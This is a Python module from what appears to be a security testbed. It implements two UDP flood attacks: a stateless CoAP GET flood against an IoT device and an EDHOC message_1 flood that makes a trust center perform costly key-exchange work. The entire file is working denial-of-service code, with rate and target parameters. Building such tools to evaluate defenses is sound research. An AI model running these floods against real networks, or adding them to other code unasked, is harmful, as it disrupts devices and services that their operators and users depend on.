"""Floods over CoAP/UDP: EDHOC message_1 at a trust center, plain requests at a thing.

Packets are built with aiocoap's message codec and sent from one UDP socket without any CoAP
state (no retransmissions, no deduplication): a flood, not a client. Replies are read on the
same socket and counted: a success code (2.xx) as answered, anything else (4.xx, 5.xx, RST) as
refused.
"""

from __future__ import annotations

import asyncio
import ipaddress
import os
import socket
from typing import Any

import aiocoap
import cbor2
from cryptography.hazmat.primitives.asymmetric import ec

from testbed.node.attacker.base import Attack, number, text
from testbed.node.errors import ActionError

COAP_PORT = 5683
EDHOC_PATH = (".well-known", "edhoc")
METHOD_STAT_STAT, SUITE_P256 = 3, 2


class _Replies(asyncio.DatagramProtocol):
    def __init__(self, attack: CoapFlood) -> None:
        self.attack = attack

    def datagram_received(self, data: bytes, addr: Any) -> None:
        try:
            message = aiocoap.Message.decode(data)
        except Exception:  # not CoAP: ignore, as a target would
            return
        if message.mtype == aiocoap.RST or not message.code.is_successful():
            if message.code.is_response() or message.mtype == aiocoap.RST:
                self.attack.counters.add("refused")
        else:
            self.attack.counters.add("answered")


class CoapFlood(Attack):
    """coap-flood {target: IPv6, resource: "temperature", rate, duration, port}"""

    name = "coap-flood"

    async def setup(self) -> None:
        self.target = _address(text(self.params, "target"))
        self.port = int(number(self.params, "port", COAP_PORT, 1, 65535))
        self.path = tuple(p for p in text(self.params, "resource", "temperature").split("/") if p)
        loop = asyncio.get_running_loop()
        self.transport, _ = await loop.create_datagram_endpoint(
            lambda: _Replies(self), family=socket.AF_INET6, local_addr=("::", 0)
        )

    def request(self, index: int) -> aiocoap.Message:
        message = aiocoap.Message(code=aiocoap.GET, uri_path=self.path)
        message.mtype = aiocoap.NON  # no ACKs asked for: a flood, not a client
        return message

    async def send_one(self, index: int) -> None:
        message = self.request(index)
        message.mid = index & 0xFFFF
        message.token = os.urandom(4)
        self.transport.sendto(message.encode(), (self.target, self.port))
        self.counters.add("sent")

    async def close(self) -> None:
        self.transport.close()


class EdhocFlood(CoapFlood):
    """edhoc-flood {target: IPv6 of the trust center, rate, duration, port}: message_1 with a
    fresh ephemeral P-256 key and connection identifier each, as a real initiator would send
    (RFC 9528 Section 5.2.1; over CoAP with the CBOR true prefix, Appendix A.2)."""

    name = "edhoc-flood"

    async def setup(self) -> None:
        await super().setup()
        self.path = EDHOC_PATH

    def request(self, index: int) -> aiocoap.Message:
        key = ec.generate_private_key(ec.SECP256R1())
        g_x = key.public_key().public_numbers().x.to_bytes(32, "big")
        c_i = index % 48 - 24  # one-byte CBOR integers -24..23, as lakers chooses
        payload = b"".join(cbor2.dumps(v) for v in (True, METHOD_STAT_STAT, SUITE_P256, g_x, c_i))
        message = aiocoap.Message(code=aiocoap.POST, uri_path=self.path, payload=payload)
        message.mtype = aiocoap.CON  # as an initiator sends it (the server piggybacks message_2)
        return message


def _address(raw: str) -> str:
    try:
        return str(ipaddress.IPv6Address(raw.strip("[]")))
    except ValueError:
        raise ActionError(
            f"target {raw!r} is not an IPv6 address",
            "give the target node's address (testbed status)",
        ) from None
